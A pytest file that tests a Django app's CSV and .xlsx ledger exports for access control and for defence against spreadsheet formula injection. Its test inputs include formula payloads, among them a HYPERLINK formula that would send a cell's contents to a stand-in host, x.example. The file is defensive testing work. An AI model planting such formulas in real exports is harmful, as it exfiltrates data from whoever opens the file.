"""The other apps' ledgers (issue 12, part 3), streamed as CSV or .xlsx: volunteers with their hours,
duty-shift records, incidents with their steps, meetings with resolutions and actions, and a vote's
frozen roll with its ballots; each only what the user may read."""

import ast
import csv
import io
from datetime import timedelta
from decimal import Decimal
from io import BytesIO
from pathlib import Path

import pytest
from django.conf import settings
from django.utils import timezone
from openpyxl import load_workbook

from governance import services as governance
from governance.models import Action, Meeting, RollOwner
from grid.models import DutyShift, Incident
from property.fees import services as billing
from property.models import Compound, FeeItem, Resident
from volunteers.models import Signup

pytestmark = pytest.mark.django_db
EN = {"Accept-Language": "en"}


def rows_of(answer) -> list[list[str]]:
    assert answer.status_code == 200, answer.content[:300]
    text = b"".join(answer.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_volunteer_hours_are_credited_by_the_one_rule(world, api):
    shift = world.shift(signed_up=True)
    starts = timezone.now() - timedelta(days=1)
    type(shift).objects.filter(pk=shift.pk).update(starts_at=starts, ends_at=starts + timedelta(hours=2))
    Signup.objects.filter(shift=shift).update(
        checked_in_at=starts + timedelta(minutes=10), checked_out_at=starts + timedelta(hours=3)
    )
    header, *rows = rows_of(api(world.users["worker"]).get("/api/v1/volunteers/ledgers/hours", headers=EN))
    assert header[0] == "volunteer" and len(rows) == 1
    row = dict(zip(header, rows[0], strict=True))
    assert row["hours credited"] == "1.83"  # from check-in, capped at the shift's end
    assert row["points"] == str(int(Decimal("1.83") * settings.VOLUNTEER_POINTS_PER_HOUR))
    assert rows_of(api(world.users["other_worker"]).get("/api/v1/volunteers/ledgers/hours"))[1:] == []
    period = (starts + timedelta(days=40)).strftime("%Y-%m")
    later = api(world.users["worker"]).get(f"/api/v1/volunteers/ledgers/hours?period={period}")
    assert rows_of(later)[1:] == []


def test_duty_shift_records_and_incidents_with_their_steps(world, api):
    world.duty(started=True)
    incident = world.extension_pending()  # an incident with a step (an extension asked for)
    world.incident("reported")  # and one with none yet
    worker = api(world.users["worker"])
    header, *duties = rows_of(worker.get("/api/v1/grid/ledgers/duty-shifts", headers=EN))
    assert len(duties) == 1
    duty = dict(zip(header, duties[0], strict=True))
    shift = DutyShift.objects.get()
    assert duty["status"] == str(shift.get_status_display())
    # times in the city's own zone, as a person reads them (not UTC)
    assert duty["starts at"] == str(timezone.localtime(shift.starts_at).replace(tzinfo=None))
    header, *steps = rows_of(worker.get("/api/v1/grid/ledgers/incidents?format=csv", headers=EN))
    mine = [dict(zip(header, r, strict=True)) for r in steps if r[0] == str(incident.pk)]
    assert [s["step"] for s in mine] == ["extend"] and mine[0]["note"] == "材料未到"
    assert len(steps) == 2  # the incident without steps has its one row
    assert rows_of(api(world.users["other_worker"]).get("/api/v1/grid/ledgers/incidents"))[1:] == []


def test_meetings_with_their_resolutions_and_actions(world, api):
    action = world.meeting_action()
    answer = api(world.users["committee"]).get("/api/v1/governance/ledgers/meetings?format=xlsx", headers=EN)
    sheet = load_workbook(BytesIO(b"".join(answer.streaming_content))).active
    header, *rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert len(rows) == 1
    row = dict(zip(header, rows[0], strict=True))
    assert (row["item"], row["text"], row["present"]) == ("action", "联系施工单位", len(world.members()))
    assert row["assignee"] == action.assignee.resident.name
    other = api(world.users["other_worker"]).get("/api/v1/governance/ledgers/meetings")
    assert rows_of(other)[1:] == []
    # internal minutes are not the residents': a resident of compound A sees none of them
    neighbour = api(world.users["volunteer"]).get("/api/v1/governance/ledgers/meetings")
    assert rows_of(neighbour)[1:] == []
    type(action.meeting).objects.filter(pk=action.meeting_id).update(public=True)
    assert len(rows_of(api(world.users["volunteer"]).get("/api/v1/governance/ledgers/meetings"))) == 2


def test_a_votes_frozen_roll_with_its_ballots_for_the_archive(world, api):
    vote = world.vote()
    governance.ballot_cast(
        actor=world.users["owner"], vote=vote, household=world.estate.household_a, choice="for"
    )
    header, *rows = rows_of(
        api(world.users["committee"]).get(f"/api/v1/governance/votes/{vote.pk}/roll", headers=EN)
    )
    by_unit = {r[2]: dict(zip(header, r, strict=True)) for r in rows}
    assert by_unit[world.estate.household_a.unit_label]["choice"] == "for"
    assert by_unit[world.estate.household_a2.unit_label]["choice"] == ""
    assert api(world.users["collector"]).get(f"/api/v1/governance/votes/{vote.pk}/roll").status_code == 403
    assert api(world.users["other_worker"]).get(f"/api/v1/governance/votes/{vote.pk}/roll").status_code == 404


# --- what a person typed is written as text, never as a formula (issue 22, part 2) --------------------

# Each a value a person can type into a text field that reaches a ledger (OWASP's CSV injection).
TYPED = {
    "resident": "=1+1",
    "compound": '=HYPERLINK("http://x.example?c="&C2,"详情")',
    "fee_item": "@SUM(1)",
    "incident_place": '=HYPERLINK("http://x.example?c="&C2,"详情")',
    "duty_notes": "+1",
    "meeting_place": "-1+2",
    "action_title": "\t=1+1",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _typed_world(world, collector):
    """Something of every ledger, then every text field a person fills given a value a spreadsheet
    would take for a formula."""
    bill = world.bills()[0]
    billing.payment_record(actor=collector, household=bill.household, amount=bill.amount, method="cash")
    FeeItem.objects.update(name=TYPED["fee_item"])
    world.duty(started=True)
    DutyShift.objects.update(notes=TYPED["duty_notes"])
    world.incident("reported")
    Incident.objects.update(place=TYPED["incident_place"])
    world.meeting_action()
    Meeting.objects.update(place=TYPED["meeting_place"])
    Action.objects.update(title=TYPED["action_title"])
    Resident.objects.update(name=TYPED["resident"])
    vote = world.vote()
    RollOwner.objects.update(name=TYPED["resident"])
    shift = world.shift(signed_up=True)
    Signup.objects.filter(shift=shift).update(checked_in_at=shift.starts_at, checked_out_at=shift.ends_at)
    Compound.objects.filter(pk=world.estate.compound_a.pk).update(name=TYPED["compound"])
    return vote


# (path, who reads it, the typed values it carries)
LEDGERS = [
    ("/api/v1/property/ledgers/bills", "collector", {"compound", "fee_item"}),
    ("/api/v1/property/ledgers/payments", "collector", {"compound"}),
    ("/api/v1/property/ledgers/households", "worker", {"resident"}),
    ("/api/v1/grid/ledgers/duty-shifts", "worker", {"duty_notes"}),
    ("/api/v1/grid/ledgers/incidents", "worker", {"incident_place"}),
    ("/api/v1/governance/ledgers/meetings", "committee", {"meeting_place", "action_title"}),
    ("/api/v1/governance/votes/{vote}/roll", "committee", {"resident"}),
    ("/api/v1/volunteers/ledgers/hours", "worker", {"resident", "compound"}),
]


@pytest.mark.parametrize(
    ("path", "reader", "carries"), LEDGERS, ids=[path.rsplit("/", 1)[-1] for path, *_ in LEDGERS]
)
def test_every_ledger_writes_what_a_person_typed_as_text(world, collector, api, path, reader, carries):
    vote = _typed_world(world, collector)
    client = api(world.users[reader] if reader != "collector" else collector)
    url = path.format(vote=vote.pk)
    expected = {TYPED[key] for key in carries}

    rows = rows_of(client.get(f"{url}?format=csv"))
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if c.startswith(FORMULA_START)] == []  # nothing a spreadsheet would run
    assert {"'" + value for value in expected} <= set(cells)

    answer = client.get(f"{url}?format=xlsx")
    assert answer.status_code == 200
    sheet = load_workbook(BytesIO(b"".join(answer.streaming_content))).active
    typed = [(c.value, c.data_type) for row in sheet.iter_rows() for c in row if c.value in expected]
    assert {value for value, _type in typed} == expected
    assert {data_type for _value, data_type in typed} == {"s"}
    assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []


APPS = ("accounts", "config", "core", "governance", "grid", "property", "renovation", "reports", "volunteers")


def _raw_writes(source: str) -> list[str]:
    """The calls in a module that write spreadsheet values without core.spreadsheets: a csv row not
    made by csv_row, a worksheet row not made by sheet_row, a cell given a value by sheet.cell()."""
    wrong = []
    for node in ast.walk(ast.parse(source)):
        if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)):
            continue
        name, first = node.func.attr, (node.args or [None])[0]
        made_by = getattr(getattr(first, "func", None), "attr", None)
        empty = isinstance(first, ast.List) and not first.elts
        receiver = getattr(node.func.value, "id", "")
        value = next((k.value for k in node.keywords if k.arg == "value"), None)
        if name in ("writerow", "writerows") and made_by != "csv_row" and not empty:
            wrong.append(f"{node.lineno}: {name}")
        elif name == "append" and receiver in ("sheet", "ws") and made_by != "sheet_row" and not empty:
            wrong.append(f"{node.lineno}: {receiver}.append")
        elif name == "cell" and value is not None and getattr(value, "value", 0) is not None:
            wrong.append(f"{node.lineno}: cell(value=)")
    return wrong


def test_every_spreadsheet_writer_goes_through_the_one_rule():
    root = Path(__file__).resolve().parent.parent
    wrong = {}
    for app in APPS:
        for path in sorted((root / app).rglob("*.py")):
            if path.name != "spreadsheets.py" and "migrations" not in path.parts:
                if found := _raw_writes(path.read_text(encoding="utf-8")):
                    wrong[str(path.relative_to(root))] = found
    assert wrong == {}
